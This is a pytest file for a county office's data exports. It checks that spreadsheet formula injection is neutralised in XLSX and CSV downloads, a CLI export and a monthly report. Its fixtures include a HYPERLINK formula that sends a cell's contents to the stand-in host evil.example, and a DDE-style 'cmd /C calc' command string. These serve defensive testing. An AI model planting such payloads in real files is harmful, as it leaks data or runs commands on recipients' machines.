"""Formula injection in exports (issue #17.5): text a spreadsheet would run is written as text, in every
XLSX and CSV the county office downloads, the CLI export and the monthly report."""

from __future__ import annotations

import csv
import io

from openpyxl import Workbook, load_workbook

from county.exports import csv_cell, is_formula_like
from county.services.reports import write_monthly_report
from shop.db import commit
from tests.factories import make_household, make_product, make_village

EVIL = '=HYPERLINK("http://evil.example/x?d="&B2,"查看详情")'
NAMES = [EVIL, "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\x01=1"]


def _xlsx_cells(data: bytes):
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            yield from row


def _assert_no_formula(data: bytes, expected_texts) -> None:
    cells = list(_xlsx_cells(data))
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if c.data_type == "s"}
    for text in expected_texts:
        # XLSX cannot hold C0 controls other than tab and line breaks; XML reads a CR back as LF
        assert text.lstrip("\x01").replace("\r", "\n") in texts, text


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_helper_neutralises_formula_starts_and_control_characters_only():
    for text in NAMES + ["\n=1", "\x7fx"]:
        assert is_formula_like(text) and csv_cell(text) == "'" + text
    for value in ("土鸡蛋", "a=1", " 张", "", 12, -12, 3.5):
        assert not is_formula_like(value) and csv_cell(value) == str(value)


def test_operator_product_names_are_text_in_approval_and_link_exports(client, auth, db, county_user):
    products = [make_product(name=name, approval_status="pending", is_published=False) for name in NAMES]
    household = make_household()
    linked = make_product(name=EVIL, households=[household])
    commit()
    auth.login(county_user)
    for path in ("/county/approvals", "/county/links"):
        xlsx = client.get(f"{path}?format=xlsx")
        assert xlsx.status_code == 200
        _assert_no_formula(xlsx.data, NAMES if path.endswith("approvals") else [EVIL])
        rows = _csv_rows(client.get(f"{path}?format=csv").data)
        names = {r[2] if path.endswith("links") else r[1] for r in rows[1:]}
        expected = NAMES if path.endswith("approvals") else [EVIL]
        assert names >= {"'" + n for n in expected}, names
        assert not any(is_formula_like(cell) for r in rows for cell in r)
    assert products and linked


def test_numbers_stay_numbers(client, auth, db, county_user):
    make_product(name="-5", price_fen=1250, approval_status="pending", is_published=False)
    commit()
    auth.login(county_user)
    cells = list(_xlsx_cells(client.get("/county/approvals?format=xlsx").data))
    assert 12.5 in {c.value for c in cells if c.data_type == "n"}
    row = _csv_rows(client.get("/county/approvals?format=csv").data)[1]
    assert row[1] == "'-5" and row[5] == "12.50"


def test_imported_names_beginning_with_equals_export_as_text(client, auth, db, county_user, app, tmp_path):
    make_village(name="=村")
    commit()
    wb = Workbook()
    wb.active.append(["所在村", "户主姓名", "建档立卡编号", "身份证号", "联系电话", "家庭人口", "状态"])
    wb.active.append(["=村", "=cmd|' /C calc'!A0", "RG7001", "", "13911117001", 2, "贫困户"])
    for cell in wb.active[2][:2]:
        cell.data_type = "s"  # text in the county's sheet, as typed with a leading quote
    buffer = io.BytesIO()
    wb.save(buffer)
    auth.login(county_user)
    response = client.post(
        "/county/households/import",
        data={"file": (io.BytesIO(buffer.getvalue()), "h.xlsx")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 200 and 'id="imported">1<' in response.get_data(as_text=True)
    xlsx = client.get("/county/households?format=xlsx").data
    _assert_no_formula(xlsx, ["=村"])
    assert any(isinstance(c.value, str) and c.value.startswith("=*") for c in _xlsx_cells(xlsx))
    rows = _csv_rows(client.get("/county/households?format=csv").data)
    assert any(r[1] == "'=村" and r[2].startswith("'=*") for r in rows[1:]), rows
    runner = app.test_cli_runner()
    out = tmp_path / "export.xlsx"
    assert runner.invoke(args=["county", "export-households", str(out)]).exit_code == 0
    _assert_no_formula(out.read_bytes(), ["=村"])


def test_monthly_report_writes_formula_like_labels_as_text(db, world, tmp_path):
    world["villages"][0].name = "@村"
    commit()
    path = write_monthly_report("2026-11", directory=str(tmp_path))
    with open(path, "rb") as f:
        _assert_no_formula(f.read(), ["@村"])
